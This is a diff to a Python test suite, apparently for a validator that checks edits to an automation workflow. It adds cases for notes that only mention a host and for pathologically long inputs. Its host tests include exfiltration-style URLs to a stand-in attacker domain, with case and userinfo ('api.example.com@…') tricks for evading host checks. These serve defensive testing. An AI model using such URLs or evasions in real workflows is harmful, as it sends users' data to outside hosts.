@@ -48,7 +48,8 @@ WORKFLOW: dict[str, Any] = {
         node("Far", "ssh", {"command": "uptime", "authentication": "password"}),
         node("Sub", "executeWorkflow", {"workflowId": {"__rl": True, "mode": "id", "value": "w2"}, "options": {}}),
         node("Base", "postgres", {"host": "db.internal", "query": "select 1"}),
-        node("Mail", "emailSend", {"toEmail": "team@example.com", "subject": "An invoice"}),
+        node("Mail", "emailSend", {"toEmail": "team@example.com", "subject": "An invoice"}, notes="see x"),
+        node("Sticky", "stickyNote", {"content": "Never ask https://noted.example/"}),
     ],
     "connections": {"Hook": {"main": [[{"node": "Ask", "type": "main", "index": 0}]]}},
     "settings": {"executionOrder": "v1", "errorWorkflow": "bridge"},
@@ -121,6 +122,7 @@ ORDINARY: dict[str, Change] = {
     "a header": header("Accept", "application/json; q=0.9"),
     "a body with an expression": give("Ask", sendBody=True, jsonBody="={{ JSON.stringify($json.body ?? {}) }}"),
     "inputs of a sub-workflow": give("Sub", options={"waitForSubWorkflow": True}),
+    "a note that stays": set_node("Mail", retryOnFail=True, notes="see x"),
     "the order of nodes": lambda workflow: workflow["nodes"].reverse(),
 }
 
@@ -132,6 +134,7 @@ def test_an_ordinary_repair_may_go_on(change: Change) -> None:
 
 EVIL = "evil.example"
 HOSTS: dict[str, tuple[Change, str]] = {
+    "a host that is only talked about": (url("https://noted.example/"), "noted.example"),
     "another host": (url(f"https://{EVIL}/collect"), EVIL),
     "upper case": (url(f"=HTTPS://{EVIL.upper()}/{{{{ $json.x }}}}"), EVIL),
     "user information": (url(f"https://api.example.com@{EVIL}/"), EVIL),
@@ -353,3 +356,12 @@ def test_rules_are_short_whatever_the_names_are() -> None:
     found = changed(url("https://" + "a" * 10_000 + "/")) + changed(url("={{ " + "a" * 10_000 + " }}"))
     assert found
     assert all(len(breach.rule) < 300 for breach in found)
+
+
+@pytest.mark.parametrize(
+    "piece", ["a", "a@", "a.", "https:", "https://{{", "={{", "{{a}}", "${", "`${", "a+", "'a'+", "("]
+)
+def test_no_text_keeps_the_fence_busy(piece: str) -> None:
+    text = piece * (60_000 // len(piece))
+    for change in (code(text), url(text), give("Mail", subject=f"={text}")):
+        changed(change)
